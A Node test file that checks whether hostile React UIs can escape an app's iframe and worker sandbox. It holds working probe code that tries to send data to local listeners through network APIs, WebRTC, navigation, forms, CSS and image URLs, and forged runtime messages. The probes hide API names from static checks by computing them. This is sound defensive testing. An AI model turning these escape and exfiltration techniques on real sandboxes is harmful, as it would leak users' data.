// Containment: hostile React UIs try every way out of the sandbox we know of — network APIs by
// computed names, Function from constructors, workers, beacons, WebRTC (STUN over UDP, TURN over
// UDP and TCP), nested frames, the frame navigating itself (location, a link, a meta refresh),
// forms, popups, CSS and image URLs, and messages forged to the frame's runtime — each aimed at a
// local TCP and UDP listener. Nothing may reach the listeners, and the host page stays as it was.
// Every hostile UI passes the static checks (the names are computed), so what protects is the
// runtime: the component runs in a worker without those APIs and its tree is mirrored through
// an allow-list.
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { createServer } from "node:net";
import { after, before, test } from "node:test";
import { apiClient, launchBrowser, signUpInBrowser, startServer } from "./harness.mjs";

let server;
let browser;
let page;
let api;
let session;
let prompt;
const hits = [];
let tcp;
let udp;
let target;

/** A TCP listener (HTTP, WebSocket, TURN over TCP) and a UDP one (STUN, TURN) that record everything. */
async function listeners() {
  tcp = createServer((socket) => {
    let first = "";
    socket.on("data", (d) => {
      if (!first) {
        first = d.toString("latin1").slice(0, 120);
        hits.push(`tcp ${JSON.stringify(first)}`);
      }
      socket.end("HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: 2\r\naccess-control-allow-origin: *\r\n\r\nok");
    });
    socket.on("error", () => undefined);
    setTimeout(() => first || hits.push("tcp connection"), 50);
  });
  await new Promise((r) => tcp.listen(0, "127.0.0.1", r));
  udp = createSocket("udp4");
  udp.on("message", (m) => hits.push(`udp ${m.length} bytes`));
  await new Promise((r) => udp.bind(0, "127.0.0.1", r));
  return { host: "127.0.0.1", tcp: tcp.address().port, udp: udp.address().port };
}

before(async () => {
  target = await listeners();
  server = await startServer();
  browser = await launchBrowser();
  page = await browser.newPage();
  session = await signUpInBrowser(page, server.app);
  api = apiClient(server.app, session.token);
  prompt = await api("POST", "/api/prompts", { name: "Target", messages: [{ role: "user", content: "the secret answer" }], settings: { model_id: "echo" } });
});
after(async () => {
  await browser?.close();
  await server?.stop();
  tcp?.close();
  udp?.close();
});

/** Wraps probe code into a component that runs it on mount and lists the outcomes. */
function component(body, markup = "null") {
  return `
import { createElement, useEffect, useRef, useState } from "react";

const T = ${JSON.stringify(target)};
const URL_ = "http://" + T.host + ":" + T.tcp;
const g = globalThis;
const pick = (o, ...parts) => (o == null ? undefined : Reflect.get(o, parts.join("")));

async function probe(name, fn) {
  try {
    const v = await fn();
    return [name, "ran: " + String(v).slice(0, 60)];
  } catch (e) {
    return [name, "blocked: " + ((e && e.name) || "Error")];
  }
}

export default function Hostile() {
  const [results, setResults] = useState([]);
  const ref = useRef(null);
  useEffect(() => {
    (async () => {
      const out = [];
      ${body}
      setResults(out);
    })();
  }, []);
  return createElement("div", { ref }, ${markup},
    createElement("ul", null, results.map(([n, r]) => createElement("li", { key: n, "data-probe": n }, n + " " + r))),
    results.length > 0 && createElement("p", { "data-testid": "done" }, "done"));
}
`;
}

const NETWORK = `
out.push(await probe("fetch", () => pick(g, "fe", "tch")(URL_ + "/fetch")));
out.push(await probe("fetch-atob", () => Reflect.get(g, atob("ZmV0Y2g="))(URL_ + "/fetch-atob")));
out.push(await probe("xhr", () => { const x = new (pick(g, "XMLHttp", "Request"))(); x.open("GET", URL_ + "/xhr"); x.send(); return "sent"; }));
out.push(await probe("websocket", () => new (pick(g, "Web", "Socket"))("ws://" + T.host + ":" + T.tcp + "/ws")));
out.push(await probe("eventsource", () => new (pick(g, "Event", "Source"))(URL_ + "/sse")));
out.push(await probe("beacon", () => pick(pick(g, "navi", "gator"), "send", "Beacon")(URL_ + "/beacon", "d")));
out.push(await probe("importScripts", () => pick(g, "import", "Scripts")(URL_ + "/import.js")));
out.push(await probe("worker", () => new (pick(g, "Wor", "ker"))(URL_ + "/worker.js")));
out.push(await probe("blob-worker", () => new (pick(g, "Wor", "ker"))(URL.createObjectURL(new Blob(["fetch('" + URL_ + "/nested')"])))));
out.push(await probe("shared-worker", () => new (pick(g, "Shared", "Worker"))(URL_ + "/shared.js")));
out.push(await probe("function-ctor", () => (() => {}).constructor("return this")()));
out.push(await probe("async-function-ctor", () => (async () => {}).constructor("return 1")()));
out.push(await probe("fontface", () => new (pick(g, "Font", "Face"))("x", "url(" + URL_ + "/font)").load()));
out.push(await probe("broadcast", () => new (pick(g, "Broadcast", "Channel"))("x").postMessage("d")));
out.push(await probe("indexeddb", () => pick(g, "indexed", "DB").open("x")));
out.push(await probe("caches", () => pick(g, "cach", "es").open("x")));
out.push(await probe("webtransport", () => new (pick(g, "Web", "Transport"))("https://" + T.host + ":" + T.tcp + "/wt")));
out.push(await probe("open", () => pick(g, "op", "en")(URL_ + "/popup")));
out.push(await probe("rtc", async () => {
  const Pc = pick(g, "RTCPeer", "Connection") || pick(g, "webkitRTCPeer", "Connection");
  const pc = new Pc({ iceServers: [
    { urls: "stun:" + T.host + ":" + T.udp },
    { urls: "turn:" + T.host + ":" + T.udp + "?transport=udp", username: "the-answer", credential: "x" },
    { urls: "turn:" + T.host + ":" + T.tcp + "?transport=tcp", username: "the-answer", credential: "x" },
  ], iceTransportPolicy: "all" });
  pc.createDataChannel("d");
  await pc.setLocalDescription(await pc.createOffer());
  return "gathering";
}));
`;

/** Opens a UI made of `code`, waits for `ready`, lets `act` run, then asserts nothing got out. */
async function expectContained(name, code, act = async () => {}) {
  const ui = await api("POST", "/api/custom-uis", { prompt_id: prompt.id, name, component_code: code });
  assert.equal(ui.validated, true, `${name} passes the static checks: ${JSON.stringify(ui.validation_errors)}`);
  const popups = [];
  const onPopup = (p) => popups.push(p.url());
  page.context().on("page", onPopup);
  const dialogs = [];
  const onDialog = (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  };
  page.on("dialog", onDialog);
  hits.length = 0;
  const url = `${server.app}/ui/${ui.id}`;
  await page.goto(url);
  const frame = page.frameLocator("iframe.ui-frame");
  await act(frame);
  // Long enough for ICE gathering, a meta refresh and a navigation to reach the listeners.
  await page.waitForTimeout(2500);
  page.context().off("page", onPopup);
  page.off("dialog", onDialog);

  assert.deepEqual(hits, [], `${name}: nothing reaches the listeners`);
  assert.equal(page.url(), url, `${name}: the host page did not move`);
  assert.deepEqual(popups, [], `${name}: no window opened`);
  const frameEl = page.locator("iframe.ui-frame");
  assert.equal(await frameEl.count(), 1, `${name}: the frame is still there (it never navigated away)`);
  const sandboxFrame = await (await frameEl.elementHandle()).contentFrame();
  assert.equal(new URL(sandboxFrame.url()).pathname, "/frame", `${name}: the frame still shows the runtime`);
  const stored = await page.evaluate(() => JSON.parse(localStorage.getItem("promptdeck.session")));
  assert.equal(stored.token, session.token, `${name}: the host's session is intact`);
  return { frame, dialogs };
}

test("network APIs, workers, beacons and WebRTC reach nothing, even by computed names", async () => {
  const { frame } = await expectContained("network", component(NETWORK), async (f) => {
    await f.getByTestId("done").waitFor({ timeout: 20_000 });
  });
  const results = await frame.locator("[data-probe]").allTextContents();
  assert.equal(results.length, 19, results.join("\n"));
  for (const r of results) assert.match(r, / blocked: /, `every probe fails: ${r}`);
});

test("the frame cannot navigate itself by location", async () => {
  await expectContained("location", component(`
    out.push(await probe("location", () => { pick(g, "loca", "tion")["hr" + "ef"] = URL_ + "/location?d=answer"; return "assigned"; }));
    out.push(await probe("assign", () => pick(pick(g, "loca", "tion"), "ass", "ign")(URL_ + "/assign")));
    out.push(await probe("self-location", () => { pick(g, "se", "lf")["loca" + "tion"] = URL_ + "/self"; return "assigned"; }));
  `));
});

test("a link the viewer or the component clicks opens only through the host, after the viewer confirms", async () => {
  const { dialogs } = await expectContained(
    "anchor",
    component(`setTimeout(() => ref.current && ref.current.querySelector && ref.current.querySelector("a") && ref.current.querySelector("a").click(), 300);`, `createElement("a", { href: URL_ + "/anchor?d=answer" }, "a link")`),
    async (f) => {
      await f.getByText("a link").click();
    },
  );
  // The link went through the host, which asked the viewer (and the test said no).
  assert.ok(dialogs.some((m) => m.includes(`/anchor?d=answer`)), `the host asked before opening: ${JSON.stringify(dialogs)}`);
});

test("a meta refresh does not navigate the frame", async () => {
  await expectContained("meta", component("", `createElement(["me", "ta"].join(""), { ["http" + "Equiv"]: "refresh", content: "0;url=" + URL_ + "/meta" })`));
});

test("nested frames, objects, forms, CSS and image URLs load nothing", async () => {
  const markup = `createElement("div", null,
    createElement("if" + "rame", { src: URL_ + "/iframe", srcDoc: "<img src=" + URL_ + "/srcdoc>" }),
    createElement("ob" + "ject", { data: URL_ + "/object" }),
    createElement("em" + "bed", { src: URL_ + "/embed" }),
    createElement("li" + "nk", { rel: "stylesheet", href: URL_ + "/link.css" }),
    createElement("ba" + "se", { href: URL_ + "/" }),
    createElement("sty" + "le", null, "@import url(" + URL_ + "/import.css); body { background: url(" + URL_ + "/body-bg) }"),
    createElement("div", { style: { backgroundImage: "url(" + URL_ + "/css-bg)" } }, "styled"),
    createElement("div", { style: { background: "image-set('" + URL_ + "/image-set' 1x)" } }, "image-set"),
    createElement("img", { src: URL_ + "/img", srcSet: URL_ + "/srcset 1x", alt: "remote" }),
    createElement("video", { poster: URL_ + "/poster", src: URL_ + "/video" }),
    createElement("svg", null, createElement("image", { href: URL_ + "/svg-image" })),
    createElement("input", { type: "image", src: URL_ + "/input-image", alt: "go" }),
    createElement("form", { action: URL_ + "/form", method: "post" },
      createElement("input", { name: "d", defaultValue: "answer" }),
      createElement("button", { type: "submit", formAction: URL_ + "/formaction" }, "Send form")))`;
  await expectContained("elements", component("", markup), async (f) => {
    await f.getByRole("button", { name: "Send form" }).click();
    await f.getByText("styled").waitFor();
  });
});

test("messages forged to the frame's runtime create nothing that loads or navigates", async () => {
  const forge = `
    const post = pick(g, "post", "Message");
    out.push(await probe("forge", () => {
      post({ t: "mutate", ack: 0, records: [
        [0, "~", { id: "x1", type: 1, element: "iframe", attributes: { src: URL_ + "/forged-iframe", srcdoc: "<img src=" + URL_ + "/forged-srcdoc>" }, children: [] }, 0],
        [0, "~", { id: "x2", type: 1, element: "img", attributes: { src: URL_ + "/forged-img", srcset: URL_ + "/forged-srcset 1x" }, children: [] }, 0],
        [0, "~", { id: "x3", type: 1, element: "div", attributes: { style: "background:url(" + URL_ + "/forged-css)", onclick: "location='" + URL_ + "/forged-onclick'" }, children: [] }, 0],
        [0, "~", { id: "x4", type: 1, element: "meta", attributes: { "http-equiv": "refresh", content: "0;url=" + URL_ + "/forged-meta" }, children: [] }, 0],
        [0, "~", { id: "x5", type: 1, element: "a", attributes: { href: URL_ + "/forged-a" }, children: [{ id: "x6", type: 3, data: "forged link" }] }, 0],
        [0, "~", { id: "x7", type: 1, element: "form", attributes: { action: URL_ + "/forged-form" }, children: [] }, 0],
        [3, "x2", "src", URL_ + "/forged-update", 2],
        [3, "x5", "innerHTML", "<img src=" + URL_ + "/forged-inner>", 1],
      ] });
      post({ t: "call", target: "x5", method: "click", args: [] });
      post({ t: "call", target: "x7", method: "submit", args: [] });
      post({ t: "rpc", message: { jsonrpc: "2.0", id: "z", method: "link/open", params: { url: "javascript:location='" + URL_ + "/forged-js'" } } });
      return "posted";
    }));
  `;
  const { frame } = await expectContained("forged", component(forge));
  // What the forged tree became: placeholders and a link without a target of its own.
  const refused = frame.locator("#root").locator("iframe, meta, object, embed, form[action], [onclick], img[src]");
  assert.equal(await refused.count(), 0, (await refused.evaluateAll((els) => els.map((e) => e.outerHTML))).join("\n"));
  assert.equal(await frame.getByText("forged link").getAttribute("href"), "#");
});
